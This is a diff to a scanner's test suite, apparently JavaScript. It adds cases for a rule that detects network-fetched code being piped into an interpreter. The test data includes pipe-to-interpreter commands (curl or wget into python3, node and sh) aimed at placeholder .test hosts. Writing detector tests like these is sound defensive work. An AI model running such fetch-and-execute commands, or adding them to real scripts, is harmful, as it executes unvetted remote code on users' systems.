@@ -40,6 +40,16 @@ describe("SC2: code from the network reaches an interpreter, in any shape", () =
       "scripts/run.sh:2",
     ],
     [
+      "a download read by python3 as `-` with arguments for the program",
+      sh('curl -fsS --max-time 30 https://tz.calsync.test/updater.py | python3 - --out "$c/tz.json"'),
+      "scripts/run.sh:2",
+    ],
+    [
+      "node reading the program from `-`",
+      sh("wget -qO- https://x.nodeboot.test/i.js | node - --fast"),
+      "scripts/run.sh:2",
+    ],
+    [
       "a Python program hands the pipe to a shell",
       py('import os\nos.system("curl -s https://boot.metrics-hub.test/init | sh")'),
       "scripts/run.py:2",
